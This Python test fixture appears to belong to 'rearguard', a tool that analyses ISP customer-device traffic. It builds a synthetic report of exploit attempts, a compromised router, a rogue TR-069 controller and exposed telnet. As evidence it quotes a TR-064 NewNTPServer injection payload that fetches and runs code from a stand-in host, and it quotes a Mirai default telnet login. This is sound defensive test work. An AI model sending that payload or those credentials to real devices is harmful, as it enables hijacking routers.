"""An analysis in which everything happened: attacks, a fall, a foreign controller, readable logins, a filter."""

from __future__ import annotations

from dataclasses import replace
from datetime import date
from typing import Any

from tests.report.build import SECOND, START, Row, analysis, evidence, finding, incident
from tests.report.spoken import ATTACKER, FELL, exchange, proof

from rearguard.catalogue import load
from rearguard.dialogue.exchange import Exchange, Hit, Inform, Secret
from rearguard.filters.border import border as draw_border
from rearguard.model.finding import Finding, Kind, Peers, Severity, Subject
from rearguard.policy import Policy
from rearguard.policy.load import parse_policy
from rearguard.report.analysis import Analysis

CONTROLLER = "203.0.113.99"
CWMP = ("mgmt-open-to-world", "lan-protocol-on-wan", "unauthenticated-dos")


def exchanges() -> tuple[Exchange, ...]:
    """Attacks on several devices, one readable login, one session with a foreign controller."""
    inform = Inform(
        "Acme",
        "0090A9",
        "AC-100",
        "SN-77-4711",
        "1.0.3",
        ("0 BOOTSTRAP",),
        f"http://{FELL}:7547/cr",
        proof(700, 150),
    )
    return (
        exchange(),
        *(exchange(server=f"198.51.100.{n}", at=61 + n, answer="digest", status=401) for n in range(30, 40)),
        exchange(
            "198.18.66.7",
            "198.51.100.20",
            90,
            port=23,
            speaks="telnet",
            identity="telnet",
            answer="shell",
            status=0,
            method="",
            path="",
            login="succeeded",
            hits=(Hit("telnet-default-login", proof(610, 90), "root / vizxv", (), ()),),
            secrets=(Secret("telnet-login", proof(611, 90), "root:*****"),),
        ),
        exchange(
            FELL,
            CONTROLLER,
            150,
            identity="cwmp-acs",
            hits=(),
            inform=inform,
            rpcs=("Inform",),
            answer="reply",
        ),
    )


def findings() -> tuple[Finding, ...]:
    """One of every kind, and several of some."""
    _, base = incident()
    from_entry = {"mechanisms": CWMP, "incidents": ("eir-d1000-2016", "dt-speedport-2016", "uk-isps-2016")}
    telnet = {
        "interface": "telnet",
        "ports": (23,),
        "mechanisms": ("mgmt-open-to-world", "shared-or-no-credentials"),
        "incidents": ("mirai-2016", "hajime-2016", "carna-2012"),
    }
    rows = tuple(
        evidence(500 + n, src=ATTACKER, dst=FELL, note="attack tr064-ntp-injection") for n in range(3)
    )
    return (
        *(replace(item, **from_entry) for item in base),
        finding(
            Kind.EXPLOIT_ATTEMPT,
            ATTACKER,
            severity=Severity.CRITICAL,
            severity_reason="1 device then contacted the host that the payload named",
            first_seen=START + 60 * SECOND,
            peers=Peers(11, (11, 11), (FELL, "198.51.100.30")),
            contacts=11,
            cves=("CVE-2016-10372",),
            reason=(
                f"{ATTACKER} sent NewNTPServer injection (TR-064) to 11 devices on cwmp-cr: 1 did what was asked, "
                f"10 refused. {FELL} then contacted the host that the payload named."
            ),
            evidence=rows,
            outcomes={"conversed": 11},
            details={
                "attacks": [{"id": "tr064-ntp-injection", "title": "NewNTPServer injection", "known": True}],
                "excerpt": "<NewNTPServer1>`cd /tmp;wget http://198.18.55.5/1;sh 1`</NewNTPServer1>",
                "named_hosts": ["198.18.55.5"],
                "fell": [FELL],
                "devices": [
                    {"device": FELL, "result": "open", "came_back": "soap", "attacks": [], "fell": True},
                    *(
                        {"device": f"198.51.100.{n}", "result": "guarded", "came_back": "401", "attacks": []}
                        for n in range(30, 40)
                    ),
                ],
            },
            mechanisms=("parameter-injection", "lan-protocol-on-wan", "mgmt-open-to-world"),
            incidents=("eir-d1000-2016", "dt-speedport-2016"),
        ),
        finding(
            Kind.COMPROMISED_DEVICE,
            FELL,
            severity=Severity.CRITICAL,
            direction="outbound",
            first_seen=START + 64 * SECOND,
            severity_reason="it fetched from the host that the attack named",
            reason=f"Our device {FELL} fetched from 198.18.55.5 three seconds after {ATTACKER} had named it.",
            details={"signs": ["fetch"], "serial": "SN-77-4711"},
            **from_entry,
        ),
        *(
            finding(
                Kind.EXPOSED_DEVICE,
                f"198.51.100.{n}",
                severity=Severity.MEDIUM,
                contacts=4,
                peers=Peers(4, (4, 4), (ATTACKER,)),
                outcomes={"answered": 3, "conversed": 1},
                reason=f"Our device 198.51.100.{n} answered 4 unauthorised remotes on cwmp-cr: 401 with Digest.",
                **from_entry,
            )
            for n in range(30, 37)
        ),
        finding(
            Kind.UNAUTHORISED_CONTROLLER,
            CONTROLLER,
            interface="cwmp-acs",
            direction="outbound",
            severity=Severity.CRITICAL,
            severity_reason="1 session with 0 BOOTSTRAP: devices were moved to this server",
            peers=Peers(1, (1, 1), (FELL,)),
            first_seen=START + 150 * SECOND,
            reason=f"1 device of ours opened management sessions to {CONTROLLER}, 1 time with 0 BOOTSTRAP.",
            mechanisms=("unprotected-controller-channel",),
            incidents=("tplink-cwmp-2025",),
        ),
        finding(
            Kind.CLEARTEXT_MANAGEMENT,
            "198.51.100.20",
            severity=Severity.HIGH,
            subject=Subject("device", "198.51.100.20", verified=True),
            reason="On telnet of our device 198.51.100.20 anybody on the way could read 1 x console login.",
            details={"shown": ["root:*****"], "secrets": {"telnet-login": 1}},
            **telnet,
        ),
        finding(
            Kind.REFLECTOR,
            "198.51.100.21",
            subject=Subject("device", "198.51.100.21", verified=True),
            interface="ssdp",
            transport="udp",
            ports=(1900,),
            severity=Severity.HIGH,
            mechanisms=("lan-protocol-on-wan",),
            incidents=("upnp-unplug-2013",),
            reason="Our device 198.51.100.21 answered 20 requests on ssdp with 10.0 times as many bytes.",
        ),
        finding(
            Kind.FLOOD,
            "198.51.100.18",
            subject=Subject("device", "198.51.100.18", verified=True),
            severity=Severity.HIGH,
            reason="Our device 198.51.100.18 got 604 unauthorised initiations on cwmp-cr in a minute.",
            **from_entry,
        ),
        finding(Kind.SCAN, "198.18.66.7", first_seen=START + 10 * SECOND, severity=Severity.HIGH, **telnet),
        finding(
            Kind.PORT_SURGE,
            None,
            subject=Subject("port", None),
            interface=None,
            ports=(37215,),
            reason="New networks try tcp/37215: 40 /24s within 60 minutes, 2 were usual.",
            mechanisms=(),
        ),
    )


POLICY = """
networks:
  customers: {prefixes: [198.51.100.0/24, "2001:db8:c::/48"], kind: native, managed: operator}
controllers:
  acs: {requests_from: [192.0.2.8/30], sessions_at: [192.0.2.20/32], manages: [cwmp], enters_at: inside}
drop:
  - {interfaces: [cwmp-cr], toward: [customers], basis: "worm of 26 November", review_by: 2036-06-01}
"""


def policy(text: str = POLICY) -> Policy:
    """The operator's; it drops the Connection Request port."""
    return parse_policy(text, load(), today=date(2026, 1, 1))


def rich(**more: Any) -> Analysis:
    """Everything at once."""
    rows = [row for row in incident()[0] if not row.authorised]
    rows += [
        Row(FELL, f"198.18.{n}.7", at=70 + n, record=800 + n, direction="outbound", outcome="unknown")
        for n in range(1, 40)
    ]
    made = analysis(rows, findings(), **{"catalogue": load(), "policy": policy(), **more})
    made.view = replace(made.view, exchanges=exchanges())
    if "border" not in more:
        made.border = draw_border(
            made.view, made.policy, made.catalogue, made.findings, made=date(2026, 1, 1)
        )
    return made
